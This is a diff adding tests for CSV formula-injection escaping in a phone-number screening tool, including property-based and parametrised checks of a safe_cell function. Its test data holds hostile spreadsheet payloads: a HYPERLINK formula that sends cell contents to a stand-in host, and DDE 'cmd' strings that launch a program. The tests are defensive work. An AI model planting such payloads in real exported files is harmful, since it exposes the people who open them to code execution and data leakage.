@@ -2,11 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import re
 from datetime import UTC, datetime
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import select
 
+from screener.csv_safety import FORMULA_STARTS, safe_cell, unescape_cell
 from screener.db.lifecycle import Database
 from screener.db.models import ListEntry
 from screener.domain.model import Actor
@@ -117,3 +123,93 @@ def test_date_text() -> None:
     assert date_text(None) == ""
     assert date_text(datetime(2026, 3, 1, tzinfo=UTC)) == "2026-03-01"
     assert date_text(datetime(2026, 3, 1, 0, 0, 1, tzinfo=UTC)) == "2026-03-01T00:00:01+00:00"
+
+
+# -- spreadsheet formulas ----------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "''=twice",
+    "'plain apostrophe",
+    "+44 20 7946 0018 (not a bare number)",
+]
+
+
+async def fill_hostile(database: Database) -> None:
+    async with database.sessions.begin() as session:
+        source = await lists_repo.create_list(session, "source", ListKind.NUISANCE)
+        numbers = ["020 7946 0018", "07700 900123", "0161 496*", "+1 202 555 0143"]
+        for i, number in enumerate(numbers):
+            entry = lists_repo.EntryInput(
+                number,
+                label=FORMULAS[2 * i],
+                note=FORMULAS[2 * i + 1],
+                source=FORMULAS[(2 * i + 2) % len(FORMULAS)],
+            )
+            await lists_repo.add_entry(session, GB, source, entry, "test")
+
+
+async def test_csv_export_cells_never_start_a_formula_and_numbers_stay_numbers(
+    database: Database, settings: Settings
+) -> None:
+    await fill_hostile(database)
+    data = await export(database, "source", ExportFormat.CSV)
+    rows = list(csv.reader(io.StringIO(data)))
+    assert len(rows) == 5
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
+                r"\+[0-9]+\*?", cell
+            ), cell
+    # The number column holds E.164 numbers and prefixes exactly as stored.
+    assert [row[0] for row in rows[1:]] == [
+        "+442079460018",
+        "+447700900123",
+        "+44161496*",
+        "+12025550143",
+    ]
+    assert rows[1][1] == "'" + FORMULAS[0]
+    assert ",''=already quoted," in data and "'''=twice" in data
+    # And the importer reads back exactly what was exported.
+    await reimport(settings, database, data, ImportFormat.CSV)
+    assert await snapshot(database, "copy") == await snapshot(database, "source")
+
+
+@given(st.text(max_size=30))
+def test_safe_cells_read_back_exactly_and_never_start_a_formula(cell: str) -> None:
+    written = safe_cell(cell)
+    assert unescape_cell(written) == cell
+    if written[:1] in FORMULA_STARTS:
+        assert re.fullmatch(r"\+[0-9]+\*?", written)
+
+
+@given(st.from_regex(r"\A\+[0-9]{1,15}\*?\Z"))
+def test_phone_numbers_are_written_as_they_are(number: str) -> None:
+    assert safe_cell(number) == number
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("+447700900123", "+447700900123"),
+        ("+44161496*", "+44161496*"),
+        ("+44 7700 900123", "'+44 7700 900123"),
+        ("+44161496**", "'+44161496**"),
+        ("'=1", "''=1"),
+        ("'tis", "'tis"),
+        ("Acme", "Acme"),
+        ("", ""),
+    ],
+)
+def test_the_formula_rule(cell: str, written: str) -> None:
+    assert safe_cell(cell) == written
